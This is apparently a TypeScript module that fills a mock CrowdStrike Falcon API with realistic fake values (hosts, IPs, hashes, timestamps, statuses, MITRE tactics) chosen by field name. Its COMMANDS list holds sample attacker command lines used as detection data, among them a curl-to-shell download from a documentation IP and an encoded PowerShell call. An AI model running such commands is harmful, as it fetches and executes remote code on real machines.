/**
 * Realistic leaf values from a field's name and format: the spec types almost every Falcon field
 * as a bare `string` (`last_seen`, `platform_name`, `local_ip`), so the name is what says a value
 * must parse as a date, an address or a digest. Each rule returns a candidate; the example
 * generator keeps it only when it still satisfies the field's schema (pattern, length, bounds).
 */
import type { Random } from "./random.js";

/** What a record's values share: one host's platform decides its OS version, ids come from the world. */
export interface ValueContext {
  readonly rng: Random;
  /**
   * The random source of one field of this record, keyed `${name}#${occurrence}` (occurrence 0
   * for the first field of that name, 1 for the second, ...): the same entity draws the same
   * `local_ip` whatever schema shows it.
   */
  fieldRandom(field: string): Random;
  /** The data world's "now" (ms since the epoch): timestamps fall in the 30 days before it. */
  readonly now: number;
  /** The tenant's customer id (32 hex). */
  readonly cid: string;
  /** The entity family the record belongs to (world.ts), when it is one: statuses follow it. */
  readonly family?: string;
  /** An id of a world entity of `family` (e.g. a host for `device_id` inside an alert). */
  readonly entityId?: (family: string) => string | undefined;
  /**
   * A choice shared by the fields of one record (its platform, hostname, user), drawn from its own
   * keyed random source: the same entity gets the same hostname from any operation's schema.
   */
  shared(key: string, make: (rng: Random) => string): string;
}

const PLATFORMS = ["Windows", "Windows", "Windows", "Mac", "Linux"] as const;
const OS_VERSIONS: Record<string, readonly string[]> = {
  Windows: ["Windows 11", "Windows 10", "Windows Server 2022", "Windows Server 2019"],
  Mac: ["Sequoia (15)", "Sonoma (14)"],
  Linux: ["Ubuntu 22.04", "RHEL 9.3", "Amazon Linux 2023"],
};
/** Statuses by the family's service (the part of its route before the first slash). */
const STATUSES: Record<string, readonly string[]> = {
  devices: ["normal", "normal", "normal", "containment_pending", "contained"],
  alerts: ["new", "in_progress", "closed", "reopened"],
  detects: ["new", "in_progress", "true_positive", "false_positive", "closed"],
  falconx: ["success", "running", "error"],
  default: ["active", "enabled", "pending", "disabled"],
};
const PLATFORM_IDS: Record<string, string> = { Windows: "0", Mac: "1", Linux: "3" };
const FIRST = ["alex", "jamie", "morgan", "taylor", "casey", "jordan", "riley", "sam", "avery", "quinn"];
const LAST = ["nguyen", "garcia", "smith", "khan", "müller", "rossi", "tanaka", "okafor", "silva", "cohen"];
const DEPTS = ["FIN", "HR", "ENG", "OPS", "SALES", "IT", "LEGAL"];
const TACTICS = [
  ["TA0002", "Execution", "T1059", "Command and Scripting Interpreter"],
  ["TA0003", "Persistence", "T1547", "Boot or Logon Autostart Execution"],
  ["TA0005", "Defense Evasion", "T1562", "Impair Defenses"],
  ["TA0006", "Credential Access", "T1003", "OS Credential Dumping"],
  ["TA0008", "Lateral Movement", "T1021", "Remote Services"],
] as const;
const FILES = ["invoice_0423.exe", "update.ps1", "svchost.exe", "setup.msi", "report.docm", "payload.dll"];
const COMMANDS = [
  "cmd.exe /c whoami /all",
  "powershell.exe -enc SQBFAFgA",
  "rundll32.exe payload.dll,Start",
  "bash -c 'curl -s http://198.51.100.7/x | sh'",
];

function pad(n: number, width = 2): string {
  return String(n).padStart(width, "0");
}

const YEAR_1000 = Date.UTC(1000, 0, 1);
const YEAR_10000 = Date.UTC(10000, 0, 1);

export function isoDate(ms: number): string {
  // the same text for four-digit years, from one native call instead of a dozen pieces
  if (ms >= YEAR_1000 && ms < YEAR_10000) return new Date(ms).toISOString().replace(/\.\d{3}Z$/, "Z");
  const d = new Date(ms);
  return `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())}T${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}Z`;
}

/** A moment in the 30 days before the world's now (first_* earlier than last_*). */
function recentMs(name: string, ctx: ValueContext): number {
  const day = 86_400_000;
  const r = ctx.rng.next();
  if (/first|created|start/.test(name)) return ctx.now - Math.floor((10 + r * 20) * day);
  if (/last|modified|updated|end/.test(name)) return ctx.now - Math.floor(r * 2 * day);
  return ctx.now - Math.floor(r * 10 * day);
}

function platform(ctx: ValueContext): string {
  return ctx.shared("platform", (r) => r.pick(PLATFORMS));
}

function person(ctx: ValueContext): [string, string] {
  return ctx.shared("person", (r) => `${r.pick(FIRST)} ${r.pick(LAST)}`).split(" ") as [string, string];
}

function tactic(ctx: ValueContext): readonly string[] {
  return TACTICS[Number(ctx.shared("tactic", (r) => String(r.int(0, TACTICS.length - 1))))]!;
}

function hostname(ctx: ValueContext): string {
  const p = platform(ctx);
  return ctx.shared("hostname", (r) =>
    p === "Windows"
      ? `${r.pick(DEPTS)}-${r.pick(["WS", "LT", "SRV"])}-${pad(r.int(1, 999), 3)}`
      : p === "Mac"
        ? `${person(ctx)[0]}s-MacBook-Pro`
        : `ip-10-${r.int(0, 255)}-${r.int(0, 255)}-${r.int(1, 254)}`,
  );
}

const ipv4 = (r: Random, prv = true): string =>
  prv
    ? `10.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`
    : `${r.pick(["198.51.100", "203.0.113", "192.0.2"])}.${r.int(1, 254)}`;
const mac = (r: Random): string => Array.from({ length: 6 }, () => r.hex(2)).join("-");

type Rule<T> = readonly [
  test: RegExp | ((n: string) => boolean),
  value: (n: string, ctx: ValueContext) => T | undefined,
];

/** What a string field holds, by its lower-cased name: the first rule whose test the name passes decides. */
const STRING_RULES: readonly Rule<string>[] = [
  [(n) => n === "" || n === "string", () => undefined],
  [/(^|_)(cid|ccid|customer_id|customer_id_string|cid_string)$/, (_, ctx) => ctx.cid],
  [/(^|_)(aid|device_id|agent_id|sensor_id)$/, (_, ctx) => ctx.entityId?.("devices/devices") ?? ctx.rng.hex(32)],
  [/(^|_)sha256(_hash)?$|^sha256s?$/, (_, ctx) => ctx.rng.hex(64)],
  [/(^|_)sha1$/, (_, ctx) => ctx.rng.hex(40)],
  [/(^|_)md5(_hash)?$/, (_, ctx) => ctx.rng.hex(32)],
  [/(^|_)mac(_address)?$/, (_, ctx) => mac(ctx.rng)],
  [/ip6$|ipv6/, (_, ctx) => `fd00::${ctx.rng.hex(4)}:${ctx.rng.hex(4)}`],
  [/(^|_)(external|public|remote)_ip$/, (_, ctx) => ipv4(ctx.rng, false)],
  [
    /(^|_)(ip|ip4|ipv4|ip_address|local_ip|connection_ip|gateway_ip|default_gateway_ip|source_ip|destination_ip)$/,
    (_, ctx) => ipv4(ctx.rng),
  ],
  [/(^|_)(hostname|host_name|computer_name|device_name)$/, (_, ctx) => hostname(ctx)],
  [/(^|_)(machine_)?domain$/, () => "corp.example.com"],
  [/^platform(_name)?$/, (_, ctx) => platform(ctx)],
  [(n) => n === "platform_id", (_, ctx) => PLATFORM_IDS[platform(ctx)]],
  [/^os_(version|product_name)$/, (_, ctx) => ctx.rng.pick(OS_VERSIONS[platform(ctx)]!)],
  [
    /(^|_)(agent|sensor)_version$|^(product_)?version$/,
    (_, ctx) => `7.${ctx.rng.int(10, 22)}.${ctx.rng.int(16000, 19999)}.0`,
  ],
  [
    (n) =>
      /(^|_)(timestamp|time|date|seen|at|on)$|^(created|modified|updated|deleted)(_\w+)?$|(^|_)(start|end)(_time)?$|last_reboot/.test(
        n,
      ) && !/(^|_)(by|zone|offset|format|type|status)$/.test(n),
    (n, ctx) => isoDate(recentMs(n, ctx)),
  ],
  [/(^|_)(email|uid|user_email|login)$/, (_, ctx) => email(ctx)],
  [(n) => n === "first_name", (_, ctx) => capital(person(ctx)[0])],
  [(n) => n === "last_name", (_, ctx) => capital(person(ctx)[1])],
  [/(^|_)(user_?name|user|username|last_login_user|logon_user)$/, (_, ctx) => `${person(ctx)[0][0]}${person(ctx)[1]}`],
  [/(^|_)(uuid|user_uuid)$/, (_, ctx) => ctx.rng.uuid()],
  [/(^|_)(url|uri|link|href)$/, (n, ctx) => `https://falcon.crowdstrike.com/${n.replace(/_/g, "-")}/${ctx.rng.hex(8)}`],
  [/^(status|state)$/, (_, ctx) => ctx.rng.pick(STATUSES[service(ctx)] ?? STATUSES.default!)],
  [/(^|_)severity(_name)?$/, (_, ctx) => ctx.rng.pick(["Critical", "High", "Medium", "Low", "Informational"])],
  [(n) => n === "tactic_id", (_, ctx) => tactic(ctx)[0]],
  [(n) => n === "tactic", (_, ctx) => tactic(ctx)[1]],
  [(n) => n === "technique_id", (_, ctx) => tactic(ctx)[2]],
  [(n) => n === "technique", (_, ctx) => tactic(ctx)[3]],
  [/(^|_)(file_?name|image_file_name)$/, (_, ctx) => ctx.rng.pick(FILES)],
  [
    /(^|_)(file_?path|path)$/,
    (_, ctx) => `\\Device\\HarddiskVolume3\\Users\\${person(ctx)[0]}\\Downloads\\${ctx.rng.pick(FILES)}`,
  ],
  [/(^|_)(cmdline|command_line|command)$/, (_, ctx) => ctx.rng.pick(COMMANDS)],
  [/(^|_)country$/, (_, ctx) => ctx.rng.pick(["United States", "Germany", "Japan", "Brazil"])],
  [/(^|_)country_code$/, (_, ctx) => ctx.rng.pick(["US", "DE", "JP", "BR"])],
  [/(^|_)(id|ids)$/, (_, ctx) => ctx.rng.hex(32)],
  [
    /(^|_)(description|comment|comments|summary|note|notes)$/,
    (n, ctx) => `${capital(n.replace(/_/g, " "))} for ${hostname(ctx)}`,
  ],
  [/(^|_)name$/, (n, ctx) => `${capital(n.replace(/_?name$/, "").replace(/_/g, " ") || "item")} ${ctx.rng.hex(4)}`],
  [() => true, (n, ctx) => `${n}-${ctx.rng.hex(6)}`],
];

/** What a number field holds, by its lower-cased name; undefined lets the schema's bounds decide. */
const NUMBER_RULES: readonly Rule<number>[] = [
  [(n) => n === "query_time", (_, ctx) => Number((ctx.rng.next() / 10).toFixed(4))],
  // incidents: 20 new, 25 reopened, 30 in progress, 40 closed (no later rule takes a "status")
  [(n) => n === "status", (_, ctx) => (service(ctx) === "incidents" ? ctx.rng.pick([20, 25, 30, 40]) : undefined)],
  [/(^|_)(timestamp|time|seen|at)$|expires/, (n, ctx) => Math.floor(recentMs(n, ctx) / 1000)],
  [/(^|_)(count|total|hits)$/, (_, ctx) => ctx.rng.int(0, 40)],
  [/severity|confidence|score|priority|risk/, (_, ctx) => ctx.rng.int(1, 10) * 10],
  [/(^|_)port$/, (_, ctx) => ctx.rng.pick([22, 80, 443, 445, 3389])],
  [/(^|_)(size|bytes|length)$/, (_, ctx) => ctx.rng.int(1_024, 5_000_000)],
  [/(^|_)(pid|process_id)$/, (_, ctx) => ctx.rng.int(100, 60_000)],
  [() => true, () => undefined],
];

interface NamedRule<T> {
  /** The field's name, lower-cased. */
  readonly n: string;
  readonly value: Rule<T>[1];
}

/**
 * The rule a field name takes, found once per name: records repeat the same few hundred names
 * thousands of times, and matching a name against every rule is most of a value's cost.
 */
function ruleCache<T>(rules: readonly Rule<T>[]): (name: string) => NamedRule<T> {
  const byName = new Map<string, NamedRule<T>>();
  return (name) => {
    let found = byName.get(name);
    if (!found) {
      const n = name.toLowerCase();
      const rule = rules.find(([test]) => (typeof test === "function" ? test(n) : test.test(n)))!;
      found = { n, value: rule[1] };
      byName.set(name, found);
    }
    return found;
  };
}

const stringRule = ruleCache(STRING_RULES);
const numberRule = ruleCache(NUMBER_RULES);

/** A realistic string for a field, by its format first, then its name; undefined when neither says anything. */
export function stringValue(name: string, format: string | undefined, ctx: ValueContext): string | undefined {
  const r = ctx.rng;
  switch (format) {
    case "date-time":
      return isoDate(recentMs(name.toLowerCase(), ctx));
    case "date":
      return isoDate(recentMs(name.toLowerCase(), ctx)).slice(0, 10);
    case "uuid":
      return r.uuid();
    case "email":
      return email(ctx);
    case "ipv4":
      return ipv4(r);
    case "ipv6":
      return `fd00::${r.hex(4)}:${r.hex(4)}`;
    case "uri":
    case "url":
      return `https://falcon.crowdstrike.com/${name.toLowerCase().replace(/_/g, "-")}/${r.hex(8)}`;
    case "hostname":
      return hostname(ctx);
    case "byte":
      return Buffer.from(`${name.toLowerCase()}-${r.hex(8)}`).toString("base64");
  }
  const { n, value } = stringRule(name);
  return value(n, ctx);
}

/** A realistic integer or number for a field, by its name; undefined to let the schema's bounds decide. */
export function numberValue(name: string, ctx: ValueContext): number | undefined {
  const { n, value } = numberRule(name);
  return value(n, ctx);
}

function service(ctx: ValueContext): string {
  return ctx.family ? ctx.family.slice(0, ctx.family.indexOf("/")) : "";
}

function capital(s: string): string {
  return s.charAt(0).toUpperCase() + s.slice(1);
}

function email(ctx: ValueContext): string {
  const [first, last] = person(ctx);
  return `${first}.${last.normalize("NFD").replace(/[^a-z]/g, "")}@example.com`;
}
